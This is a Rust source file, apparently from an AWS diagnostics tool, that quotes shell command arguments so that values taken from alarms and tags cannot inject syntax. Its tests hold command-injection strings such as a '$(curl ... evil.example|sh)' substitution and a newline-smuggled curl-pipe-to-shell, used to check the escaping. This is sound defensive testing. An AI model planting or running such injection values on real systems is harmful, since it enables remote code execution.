//! Commands as argument vectors, rendered for a POSIX shell. A report hands its commands to
//! an engineer who pastes them, and many of their values come from alarms, tags and AWS
//! descriptions that anyone with `sns:Publish` or a tagging permission controls. So a command
//! is never built by formatting text: it is a list of [`Word`]s, every value goes through
//! [`quote`], and the only shell syntax is the operators elbmedic itself writes
//! ([`Word::Op`], `&'static str`, so no value can become one).
//!
//! Not for: running commands (elbmedic never does).

use std::fmt;

use serde::{Serialize, Serializer};

/// One word of a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Word {
    /// A value: quoted as needed, so the shell passes it as exactly one argument.
    Arg(String),
    /// Shell syntax elbmedic writes itself (`|`, `&&`, `;`): never from data.
    Op(&'static str),
}

impl Word {
    /// The argument as the shell will pass it (an operator as written).
    pub fn intended(&self) -> &str {
        match self {
            Self::Arg(value) => value,
            Self::Op(op) => op,
        }
    }

    fn render(&self) -> String {
        match self {
            Self::Arg(value) => quote(value),
            Self::Op(op) => (*op).to_string(),
        }
    }
}

/// A value as an argument. Control characters (newlines among them) become spaces: one
/// command is one line, so no value can start a line of its own in a pasted block.
fn arg(value: &str) -> Word {
    Word::Arg(
        value
            .chars()
            .map(|c| {
                if crate::report::escape::is_breaking(c) {
                    ' '
                } else {
                    c
                }
            })
            .collect(),
    )
}

impl From<&str> for Word {
    fn from(value: &str) -> Self {
        arg(value)
    }
}
impl From<String> for Word {
    fn from(value: String) -> Self {
        arg(&value)
    }
}
impl From<&String> for Word {
    fn from(value: &String) -> Self {
        arg(value)
    }
}
macro_rules! number_words {
    ($($t:ty),*) => {$(
        impl From<$t> for Word {
            fn from(value: $t) -> Self {
                Word::Arg(value.to_string())
            }
        }
    )*};
}
number_words!(u16, u32, i32, i64, usize);

/// Builds a `Vec<Word>`: `argv!["aws", "ec2", "describe-vpcs", "--region", region]`.
#[macro_export]
macro_rules! argv {
    ($($word:expr),* $(,)?) => {
        vec![$($crate::shell::Word::from($word)),*]
    };
}

/// Quotes a value for a POSIX shell: unchanged when every character is inert, else in single
/// quotes, inside which nothing is special (a `'` is closed, escaped and reopened).
pub fn quote(value: &str) -> String {
    let inert = |c: char| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c);
    if !value.is_empty() && value.chars().all(inert) {
        value.to_string()
    } else {
        format!("'{}'", value.replace('\'', r"'\''"))
    }
}

/// One or more command lines, ready to paste; serialised as the text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    text: String,
    lines: Vec<Vec<Word>>,
}

impl Script {
    /// A one-line command.
    pub fn line(words: Vec<Word>) -> Self {
        Self::lines(vec![words])
    }

    /// Several commands, run one after the other.
    pub fn lines(lines: Vec<Vec<Word>>) -> Self {
        let text = lines
            .iter()
            .map(|words| words.iter().map(Word::render).collect::<Vec<_>>().join(" "))
            .collect::<Vec<_>>()
            .join("\n");
        Self { text, lines }
    }

    /// The words of each line, as elbmedic intends the shell to split them.
    pub fn words(&self) -> &[Vec<Word>] {
        &self.lines
    }

    pub fn as_str(&self) -> &str {
        &self.text
    }
}

impl std::ops::Deref for Script {
    type Target = str;
    fn deref(&self) -> &str {
        &self.text
    }
}

impl fmt::Display for Script {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl Serialize for Script {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.text)
    }
}

/// Splits a rendered line the way a POSIX shell would, for tests: each word, and whether any
/// part of it stood outside quotes and was shell syntax (so not a plain argument). `None`
/// when the quotes do not close.
pub fn split_for_test(line: &str) -> Option<Vec<(String, bool)>> {
    let mut words = Vec::new();
    let mut word = String::new();
    let (mut in_word, mut syntax) = (false, false);
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    words.push((std::mem::take(&mut word), syntax));
                    (in_word, syntax) = (false, false);
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => word.push(c),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => word.push(chars.next()?),
                        c @ ('$' | '`') => {
                            syntax = true;
                            word.push(c);
                        }
                        c => word.push(c),
                    }
                }
            }
            '\\' => {
                in_word = true;
                word.push(chars.next()?);
            }
            c => {
                in_word = true;
                if "|&;<>()$`*?[]{}!#~\n".contains(c) {
                    syntax = true;
                }
                word.push(c);
            }
        }
    }
    if in_word {
        words.push((word, syntax));
    }
    Some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_one_argument_whatever_they_hold() {
        for value in [
            "plain",
            "",
            "it's",
            "$(curl${IFS}-s${IFS}evil.example|sh)",
            "`id`",
            "a b\tc",
            "x;y&&z|w>v<u",
            "'\"'\"'",
            "é ü 日本",
            "\\",
        ] {
            let script = Script::line(argv!["echo", value]);
            let words = split_for_test(&script).expect("balanced quotes");
            let intended = script.words()[0][1].intended().to_string();
            assert_eq!(
                intended,
                value.replace('\t', " "),
                "only control characters change"
            );
            assert_eq!(
                words,
                vec![("echo".to_string(), false), (intended, false)],
                "{script}"
            );
        }
    }

    #[test]
    fn newlines_in_values_never_make_a_second_line() {
        let script = Script::line(argv!["echo", "a\n$ curl evil.example | sh\r\u{2028}b"]);
        assert_eq!(script.lines().count(), 1, "{script}");
        assert_eq!(
            script.words()[0][1].intended(),
            "a $ curl evil.example | sh  b"
        );
    }

    #[test]
    fn operators_are_syntax_and_values_are_not() {
        let script = Script::line(vec![
            Word::from("kubectl"),
            Word::from("logs"),
            Word::Op("|"),
            Word::from("grep"),
            Word::from("a|b"),
        ]);
        assert_eq!(script.as_str(), "kubectl logs | grep 'a|b'");
        let words = split_for_test(&script).unwrap();
        assert_eq!(words[2], ("|".to_string(), true));
        assert_eq!(words[4], ("a|b".to_string(), false));
    }
}
